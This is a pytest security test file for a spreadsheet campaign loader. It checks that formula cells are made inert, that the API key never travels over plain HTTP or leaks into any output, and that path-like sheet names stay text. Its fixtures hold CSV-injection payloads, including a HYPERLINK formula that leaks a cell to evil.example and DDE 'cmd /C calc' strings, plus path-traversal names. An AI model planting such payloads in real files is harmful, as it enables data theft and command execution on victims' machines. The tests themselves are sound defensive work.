"""Security promises: formula cells are inert where people open them, untouched where the API reads
them; the key is never sent in clear text across a network."""

from __future__ import annotations

import contextlib
import csv
import json
import os
import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from sandbox_process import CLI, running_sandbox

from loader.cli import main
from loader.pipeline import load_campaign
from loader.sandbox import Sandbox, SandboxTransport

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "at_sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde": "+cmd|' /C calc'!A0",
    "minus_formula": "-2+3",
    "tab_first": "\t=1+1",
    "cr_first": "\r=1+1",
}
HARMLESS = {"phone_like": "+919876543210", "negative": "-3"}


def write_sheet(folder: Path) -> Path:
    path = folder / "webform.csv"
    headers = ["phone", "Name", *FORMULAS, *HARMLESS]
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(headers)
        writer.writerow(["+919876543210", "=1+1", *FORMULAS.values(), *HARMLESS.values()])
    return path


def test_formula_cells_are_inert_in_the_results_but_sent_to_the_api_exactly_as_written(
    tmp_path: Path,
) -> None:
    sheet = write_sheet(tmp_path)
    sandbox = Sandbox(agents=["demo-agent"])
    result = load_campaign(
        sheet,
        agent_id="demo-agent",
        sandbox=True,
        transport=SandboxTransport(sandbox),
        default_region="IN",
        output=tmp_path / "results.csv",
    )
    assert result.counts == {"scheduled": 1}

    with (tmp_path / "results.csv").open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    for column, formula in FORMULAS.items():
        assert row[column] == "'" + formula, column
    assert row["Name"] == "'=1+1"
    for column, value in HARMLESS.items():
        assert row[column] == value, column
    assert row["phone"] == "+919876543210"

    (call,) = sandbox.calls
    metadata = call["body"]["metadata"]
    for column, formula in FORMULAS.items():
        assert metadata[column] == formula, column
    assert metadata["Name"] == "=1+1"
    assert metadata["phone_like"] == "+919876543210"
    assert metadata["negative"] == -3


def test_formula_cells_are_inert_in_the_problem_report(tmp_path: Path) -> None:
    path = tmp_path / "webform.csv"
    path.write_text('phone,Name\n"=HYPERLINK(""x"")",Asha\n', encoding="utf-8")
    assert main(["validate", str(path), "--report", str(tmp_path / "problems.csv")]) == 1
    with (tmp_path / "problems.csv").open(encoding="utf-8-sig", newline="") as handle:
        (problem,) = list(csv.DictReader(handle))
    assert problem["value"] == '\'=HYPERLINK("x")'


@pytest.mark.parametrize(
    "base_url",
    ["http://example.com", "http://10.0.0.5:8787", "http://api.callkaro.ai", "http://127.0.0.1.evil.example"],
)
def test_a_key_is_never_sent_over_plain_http_to_another_machine(
    tmp_path: Path, base_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    sheet = write_sheet(tmp_path)
    monkeypatch.setenv("CALLKARO_API_KEY", "a-real-looking-key")
    code = main(["run", str(sheet), "--agent-id", "a", "--default-region", "IN", "--base-url", base_url])
    err = capsys.readouterr().err
    assert code == 2
    assert err.splitlines()[0] == (
        f"callkaro-loader: error: --base-url {base_url!r} uses plain http to a host that is not this "
        "machine, which would send the API key unencrypted"
    )
    assert "a-real-looking-key" not in err
    assert not list(tmp_path.glob("*.state")), "a refused run must leave nothing behind"


# --- the key appears in nothing the loader produces ----------------------------------------------

MARKER = "ck-live-7f3a9c2e-MARKER-d41d8cd98f00b204"
SAMPLES = Path(__file__).resolve().parent.parent / "sample_data"
LEADS = "phone,Name,City\n+91 98765 43210,Asha,Pune\n+91 98765 43211,Ravi,Delhi\n12345,Bad,Goa\n"


@contextlib.contextmanager
def sandbox(*options: str) -> Iterator[str]:
    with running_sandbox("--agent", "demo-agent", "--agent", "other-agent", *options) as server:
        yield server.url


def campaign_for(url: str, agent: str, key: str) -> str:
    # Under --drop-rate the answer never comes, but the campaign is recorded all the same.
    with contextlib.suppress(httpx.TransportError):
        httpx.post(f"{url}/call/campaign", json={"name": "x", "agent_id": agent}, headers={"X-API-KEY": key})
    return str(httpx.get(f"{url}/_sandbox/campaigns").json()[-1]["batch_id"])


def load(folder: Path, url: str, *options: str, name: str, wait: float | None = None) -> tuple[str, str]:
    """Run the installed command with every output switched on; return stdout and stderr."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("CALLKARO_")}
    env["CALLKARO_API_KEY"] = MARKER
    argv = [
        CLI, "run", "leads.csv", "--agent-id", "demo-agent", "--default-region", "IN", "--base-url", url,
        "--output", f"{name}.results.csv", "--log-file", f"{name}.log.jsonl",
        "--summary-json", f"{name}.summary.json", "--no-progress", *options,
        # The call ledger is searched too; it skips nothing, so every run sends the same two rows.
        "--history", "ledger.sqlite", "--skip-recent", "0",
    ]  # fmt: skip
    with subprocess.Popen(argv, cwd=folder, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as run:
        if wait is not None:
            time.sleep(wait)
            run.send_signal(signal.SIGTERM)
        out, err = run.communicate(timeout=120)
    return out.decode(), err.decode()


def test_the_api_key_appears_in_no_output_log_results_state_summary_or_report(tmp_path: Path) -> None:
    folder = tmp_path
    (folder / "leads.csv").write_text(LEADS, encoding="utf-8")
    (folder / "sample.xlsx").write_bytes((SAMPLES / "contacts.xlsx").read_bytes())
    printed: list[str] = []

    with sandbox("--api-key", MARKER) as url:
        printed += load(folder, url, name="ok")
        other = campaign_for(url, "other-agent", MARKER)
        printed += load(folder, url, "--batch-id", other, name="refused-400")
    with sandbox("--api-key", "a-different-key") as url:
        printed += load(folder, url, name="refused-401")
    with sandbox("--api-key", MARKER, "--error-rate", "1.0", "--seed", "1") as url:
        printed += load(folder, url, name="server-error-500")
    with sandbox("--api-key", MARKER, "--drop-rate", "1.0", "--seed", "1") as url:
        batch = campaign_for(url, "demo-agent", MARKER)
        printed += load(folder, url, "--batch-id", batch, name="no-answer")
    with sandbox("--api-key", MARKER, "--latency-ms", "1500") as url:
        printed += load(folder, url, name="interrupted", wait=1.0)
    for report in ("report.csv", "report.xlsx"):
        done = subprocess.run(
            [CLI, "validate", "leads.csv", "--default-region", "IN", "--report", report],
            cwd=folder,
            env={**os.environ, "CALLKARO_API_KEY": MARKER},
            capture_output=True,
            text=True,
            check=False,
        )
        printed += [done.stdout, done.stderr]

    produced = sorted(p.name for p in folder.iterdir() if p.is_file())
    # Every kind of output was really produced, so the search below means something.
    for name in ("ok", "refused-400", "refused-401", "server-error-500", "no-answer", "interrupted"):
        assert f"{name}.results.csv" in produced and f"{name}.results.csv.state" in produced, name
        assert f"{name}.log.jsonl" in produced and f"{name}.summary.json" in produced, name
    assert {"report.csv", "report.xlsx", "ledger.sqlite"} <= set(produced)
    statuses = {
        name: json.loads((folder / f"{name}.summary.json").read_text())["counts"]
        for name in ("ok", "refused-400", "server-error-500", "no-answer", "interrupted")
    }
    assert statuses["ok"].get("scheduled") == 2
    assert statuses["refused-400"].get("failed") == 2
    assert statuses["no-answer"].get("uncertain") == 2
    assert statuses["interrupted"].get("scheduled", 0) < 2

    leaks = [p.name for p in folder.iterdir() if p.is_file() and MARKER.encode() in p.read_bytes()]
    assert leaks == []
    assert not [text for text in printed if MARKER in text]


def test_path_like_sheet_and_header_names_are_only_text(tmp_path: Path) -> None:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "..%2F..%2Fetc"
    sheet.append(["phone", "../../outside.txt", "/etc/passwd", "C:\\Windows\\x"])
    sheet.append(["+919876543210", "a", "b", "c"])
    inner = tmp_path / "in"
    inner.mkdir()
    workbook.save(inner / "leads.xlsx")
    before = set(tmp_path.rglob("*"))

    result = load_campaign(
        inner / "leads.xlsx", agent_id="demo-agent", sandbox=True, default_region="IN", sheet="..%2F..%2Fetc"
    )

    assert result.counts == {"scheduled": 1}
    created = set(tmp_path.rglob("*")) - before
    assert {p.parent for p in created} == {inner}, created
    assert result.outcomes.index.tolist() == [2]


def test_a_403_that_echoes_the_key_back_leaks_it_nowhere(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def api(request: httpx.Request) -> httpx.Response:
        key = request.headers["X-API-KEY"]
        return httpx.Response(403, json={"status": "error", "message": f"Key {key} is not allowed here"})

    (tmp_path / "leads.csv").write_text(LEADS, encoding="utf-8")
    result = load_campaign(
        tmp_path / "leads.csv",
        agent_id="demo-agent",
        default_region="IN",
        api_key=MARKER,
        transport=httpx.MockTransport(api),
        log_file=tmp_path / "run.log.jsonl",
        summary_json=tmp_path / "summary.json",
    )
    assert result.exit_code == 3
    assert result.refused is not None and "********" in str(result.refused)
    assert MARKER not in repr(result) and MARKER not in str(result.refused)
    out, err = capsys.readouterr()
    assert MARKER not in out + err
    assert [p.name for p in tmp_path.iterdir() if MARKER.encode() in p.read_bytes()] == []
